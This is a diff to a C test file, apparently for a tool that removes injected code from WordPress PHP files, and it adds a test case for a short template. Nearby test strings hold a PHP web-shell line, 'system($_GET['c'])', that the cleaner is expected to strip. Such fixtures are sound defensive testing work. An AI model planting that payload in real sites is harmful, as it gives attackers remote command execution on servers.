@@ -71,6 +71,8 @@ takes_out_what_was_injected(void)
         {"<?php\n" EVAL "\n/**\n * Title: Footer\n */\n?>\n<div>" FILLER FILLER FILLER "</div>\n",
          "<?php\n/**\n * Title: Footer\n */\n?>\n<div>" FILLER FILLER FILLER "</div>\n", MEND_DONE,
          NULL},
+        /* A template is short, and WordPress's. */
+        {"<?php\n" EVAL "\nget_header();\n?>\n", "<?php\nget_header();\n?>\n", MEND_DONE, NULL},
         /* Two of them. */
         {"<?php\n" EVAL "\n" FRONT "system($_GET['c']);\n", "<?php\n" FRONT, MEND_DONE, NULL},
         {"<?php\n" EVAL "system($_GET['c']);" EVAL "\n" FRONT, "<?php\n" FRONT, MEND_DONE, NULL},
